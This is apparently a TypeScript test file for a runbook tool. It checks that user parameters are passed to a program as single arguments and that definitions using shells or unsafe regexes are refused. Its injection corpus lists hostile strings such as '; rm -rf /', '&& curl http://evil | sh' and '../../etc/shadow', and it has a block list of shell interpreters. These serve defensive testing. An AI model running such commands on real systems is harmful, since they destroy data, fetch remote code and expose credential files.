import { isRefusal } from '@flotilla/kernel/errors';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { RunbookDefinition } from '../events.ts';
import { checkedDefinition } from './definition.ts';
import { renderArgv } from './render.ts';

const definition: RunbookDefinition = {
  description: 'Shows what it is given.',
  parameters: [
    { name: 'text', type: 'STRING', pattern: '[\\s\\S]*', lengthMax: 256 },
    { name: 'level', type: 'ENUM', values: ['low', 'high'] },
    { name: 'count', type: 'INT', min: -5, max: 5 },
    { name: 'loud', type: 'BOOLEAN' },
  ],
  argv: ['/usr/bin/printf', '%s', '--', '${text}', '${level}', '${count}', '${loud}'],
  timeoutS: 10,
  outputMaxBytes: 1_024,
  concurrencyMax: null,
  redact: ['password=[^ ]+'],
  requiredRole: 'OPERATOR',
  fourEyesAboveDevices: null,
};
const rest = { level: 'low', count: 3, loud: true };

/** What people try where a shell, a template or an option parser might listen. */
const corpus = [
  '; rm -rf /',
  '$(reboot)',
  '`id`',
  '&& curl http://evil | sh',
  '| tee /etc/passwd',
  '\n/bin/sh',
  'a\tb',
  '"; echo pwned; "',
  "' or '1'='1",
  '${text}',
  '${level}',
  '$IFS',
  '%s%s%n',
  '../../etc/shadow',
  '*',
  '~root',
  '{a,b}',
  '>out',
  '\\',
  '\u202eevil',
  '=cmd',
  ' leading and trailing ',
  '',
  'ünïcödé 🏃',
];
const options = ['-rf', '--help', '-', '--', '--output=/etc/passwd'];

function refusedElement(work: () => unknown): unknown {
  try {
    work();
  } catch (thrown) {
    if (isRefusal(thrown)) return thrown.details['element'];
    throw thrown;
  }
  throw new Error('it was accepted');
}

describe('a runbook', () => {
  test.for(corpus)('hands %j to its program as exactly one argument', (text) => {
    const argv = renderArgv(definition, { ...rest, text });
    expect(argv).toEqual(['/usr/bin/printf', '%s', '--', text, 'low', '3', 'true']);
  });

  test.for(options)('refuses %j, which its program would take for an option', (text) => {
    expect(refusedElement(() => renderArgv(definition, { ...rest, text }))).toBe('text');
  });

  test('hands any text on as one argument or refuses it', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 300 }), (text) => {
        let argv: readonly string[];
        try {
          argv = renderArgv(definition, { ...rest, text });
        } catch (thrown) {
          return isRefusal(thrown) && thrown.details['element'] === 'text';
        }
        return argv.length === definition.argv.length && argv[3] === text;
      }),
      { numRuns: 200 },
    );
  });

  test.for([
    ['text', { ...rest }],
    ['text', { ...rest, text: 5 }],
    ['text', { ...rest, text: 'a\0b' }],
    ['level', { ...rest, text: 'a', level: 'middle' }],
    ['count', { ...rest, text: 'a', count: 6 }],
    ['count', { ...rest, text: 'a', count: '3; reboot' }],
    ['loud', { ...rest, text: 'a', loud: 'true' }],
    ['other', { ...rest, text: 'a', other: 1 }],
  ] as const)('names %s when that does not fit', ([element, args]) => {
    expect(refusedElement(() => renderArgv(definition, args))).toBe(element);
  });
});

describe('the definition of a runbook', () => {
  const refusedWith = (changes: Partial<RunbookDefinition>) =>
    refusedElement(() => checkedDefinition({ ...definition, ...changes }));

  test('is taken as it is when it is sound', () => {
    expect(checkedDefinition(definition)).toEqual(definition);
  });

  test.for(['/bin/sh', '/usr/bin/bash', '/usr/bin/env', '/bin/busybox', '/usr/bin/python3.12', '/usr/bin/perl'])(
    'is refused when its program is %s',
    (program) => {
      expect(refusedWith({ argv: [program, ...definition.argv.slice(1)] })).toBe('argv');
    },
  );

  test.for([[[]], [['printf']], [['${text}']], [['/usr/../bin/sh']], [['/usr/bin/printf', 'x${text}']]] as const)(
    'is refused with the arguments %j',
    ([argv]) => {
      expect(refusedWith({ argv, parameters: definition.parameters.slice(0, 1) })).toBe('argv');
    },
  );

  test.for(['(a+)+', '(?=a)b', '(a)\\1', 'a*a*a*a*', '[', ''])('is refused with the pattern %j', (pattern) => {
    expect(refusedWith({ redact: [pattern] })).toBe('redact');
  });

  test('is refused with a parameter that is not used, or used and not there', () => {
    expect(refusedWith({ argv: ['/usr/bin/printf', '${text}'] })).toBe('parameters');
    expect(refusedWith({ parameters: [] })).toBe('argv');
  });
});
